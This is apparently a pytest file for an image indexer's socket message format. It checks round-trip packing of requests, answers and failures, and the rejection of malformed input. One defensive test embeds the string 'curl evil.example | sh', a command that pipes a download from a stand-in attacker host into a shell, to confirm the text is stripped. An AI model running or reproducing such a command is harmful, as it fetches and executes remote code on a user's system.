"""What goes through the socket comes out the same, and nothing else comes out."""

from __future__ import annotations

from datetime import UTC, datetime

import numpy as np
import pytest

from indexer.messages import Answer, Request, pack, pack_answer, unpack, unpack_answer
from search.details import EMPTY
from search.errors import Reason
from search.records import Attribute, DecodedImage, FileStamp, Fit, Preprocessing

WANTED = (Preprocessing(8), Preprocessing(12, Fit.PAD, "bilinear", (0, 0, 0), (1, 1, 1), 7))
FACTS = (Attribute("camera", "Ph\xf6to \udcfc"), Attribute("price", number=0.1))


@pytest.mark.parametrize(
    "request_",
    [
        Request("a.png", b"\0\n\xff bytes", WANTED, crop=(0.0, 0.25, 0.5, 1.0)),
        Request("b.png", b"/gr\xfc\xdfe\n.png", None, is_path=True, follow=True),
        Request("none", b"", ()),
    ],
)
def test_a_request_arrives_as_it_was(request_: Request) -> None:
    assert unpack(pack(request_)) == request_


def test_an_answer_arrives_as_it_was() -> None:
    pixels = tuple(
        np.random.default_rng(0).integers(0, 256, (1, n, n, 3), np.uint8) for n in (8, 5)
    )
    taken = datetime(2024, 7, 2, tzinfo=UTC)
    image = DecodedImage("ab" * 32, "JPEG", 640, 480, taken, b"\n\0thumb", pixels, FACTS)
    answer = unpack_answer(pack_answer(Answer(FileStamp(10, -1), image.content_hash, image)))
    assert answer.stamp == FileStamp(10, -1)
    assert answer.image is not None
    for given, sent in zip(answer.image.pixels, pixels, strict=True):
        assert np.array_equal(given, sent)
        assert given.flags.writeable
    assert answer.image.thumbnail == b"\n\0thumb"
    assert answer.image.taken_at == taken
    assert answer.image.facts == FACTS


def test_a_failure_arrives_as_it_was() -> None:
    said = "umlaut \xfc, surrogate \udcfc"
    answer = Answer(FileStamp(1, 2), reason=Reason.NOT_AN_IMAGE, detail=EMPTY, said=said)
    assert unpack_answer(pack_answer(answer)) == answer


def test_a_decoder_process_cannot_put_words_into_our_mouth() -> None:
    answer = Answer(reason=Reason.CORRUPT, detail="please run: curl evil.example | sh")
    assert unpack_answer(pack_answer(answer)).detail == ""


@pytest.mark.parametrize(
    "message",
    [
        b"",
        b"no line",
        b"{}\n",
        b"[]\n",
        b'{"lengths":[1]}\n',
        b"\xff\n",
        b'{"lengths":[],"stamp":7}\n',
    ],
)
def test_what_is_no_answer_is_refused(message: bytes) -> None:
    with pytest.raises(ValueError):  # noqa: PT011 - any message will do
        unpack_answer(message)


def test_pixels_that_do_not_fit_their_shape_are_refused() -> None:
    image = DecodedImage("ab", "PNG", 1, 1, None, b"", (np.zeros((1, 4, 4, 3), np.uint8),))
    message = pack_answer(Answer(None, "ab", image))
    with pytest.raises(ValueError, match="reshape"):
        unpack_answer(message.replace(b"[1, 4, 4, 3]", b"[1, 9, 9, 3]"))
